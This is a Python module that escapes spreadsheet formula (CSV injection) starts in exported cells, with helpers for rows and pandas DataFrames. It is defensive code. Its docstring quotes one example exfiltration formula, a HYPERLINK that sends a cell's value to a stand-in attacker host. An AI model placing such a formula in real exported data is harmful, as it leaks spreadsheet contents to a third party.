"""Cells a spreadsheet would run as formulas, made inert: the one escape every CSV we write uses.

Excel, LibreOffice and Google Sheets read a cell that begins with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return as a formula ("CSV injection", OWASP): a tracker partner
``=HYPERLINK("http://evil.example/?leak="&A1,"click")`` would become a live link leaking the
sheet. :func:`inert` puts an apostrophe before such a text, which spreadsheets show as text and
do not evaluate. Numbers stay numbers: numeric values, and text that reads as a plain number
(``-3.5``, ``1e-05``, ``-inf``), are written as they are.

Every CSV a person may open goes through here: the API's ``?format=csv`` lists, the export files
(``migobs export`` and ``/api/export``), the tracker's exports, ``migobs sql --csv`` and the flow
files.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?|[+-]?(inf|nan)", re.IGNORECASE)


def inert(value: Any) -> Any:
    """``value`` with an apostrophe before it when it is text a spreadsheet would run as a
    formula; any other value (numbers, dates, ``None``, plain numbers as text) unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return ESCAPE + value
    return value


def inert_row(row: Mapping[str, Any]) -> dict[str, Any]:
    """A CSV row (column → value) with every cell made inert."""
    return {inert(name): inert(value) for name, value in row.items()}


def inert_rows(rows: Iterable[Mapping[str, Any]]) -> list[dict[str, Any]]:
    """CSV rows with every cell made inert."""
    return [inert_row(row) for row in rows]


def inert_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names are inert; numeric columns are
    left as they are (same dtype). Each distinct text is checked once (a column of country
    names repeats a few hundred names over its rows)."""
    text = [name for name, dtype in frame.dtypes.items() if not _is_numeric(dtype)]
    safe = frame.copy()
    for name in text:
        escaped = {v: inert(v) for v in safe[name].dropna().unique() if isinstance(v, str)}
        changed = {v: e for v, e in escaped.items() if e != v}
        if changed:
            safe[name] = safe[name].replace(changed)
    safe.columns = [inert(name) for name in safe.columns]
    return safe


def _is_numeric(dtype: Any) -> bool:
    return getattr(dtype, "kind", "O") in "biufcmM"
